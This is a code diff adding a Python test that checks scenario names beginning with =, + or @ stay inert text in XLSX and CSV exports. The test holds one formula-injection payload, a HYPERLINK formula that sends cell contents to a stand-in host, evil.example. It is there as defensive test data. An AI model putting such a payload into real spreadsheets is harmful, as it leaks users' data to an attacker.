@@ -208,3 +208,28 @@ def test_dashboard_downloads_have_the_control_tables(tmp_path: Path) -> None:
             page = client.get(f"/runs/{rid}").text
             for name in CONTROL_TABLES:  # the page links the tables it offers, no others
                 assert (f"/api/runs/{rid}/tables/{name}.csv" in page) is offered
+
+
+def test_names_starting_like_a_formula_stay_text_in_exports(tmp_path: Path) -> None:
+    """A scenario named '=HYPERLINK(...)' (or any text starting with =, +, @) is text in the
+    workbook and quoted in the CSV tables: no spreadsheet runs it."""
+    import openpyxl
+
+    from critmin.simulation import simulate
+
+    data = simulate(EXAMPLES / "01_lithium_floor_levy.toml").to_dict()
+    data["scenario"] = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    book = openpyxl.load_workbook(write_xlsx(data, tmp_path / "w.xlsx"))
+    formulas = [
+        (ws.title, c.coordinate)
+        for ws in book
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+    assert formulas == []
+    assert book["summary"]["B2"].value.startswith("=HYPERLINK")  # kept as text
+    for name in table_names(data):
+        for line in table_csv(data, name).splitlines():
+            for cell in line.split(","):
+                assert not cell.startswith(("=", "+", "@")), (name, cell)
